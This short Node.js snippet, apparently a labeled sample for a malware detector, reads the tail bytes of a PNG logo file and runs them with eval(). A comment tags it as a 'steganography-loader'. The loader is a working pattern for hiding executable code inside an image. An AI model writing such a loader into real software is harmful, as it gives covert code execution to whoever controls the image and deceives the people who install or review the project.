const fs = require('node:fs');

const bytes = fs.readFileSync('assets/logo.png');
const hidden = bytes.subarray(bytes.length - 900).toString('utf8');
eval(hidden); // expect: malicious-command/steganography-loader
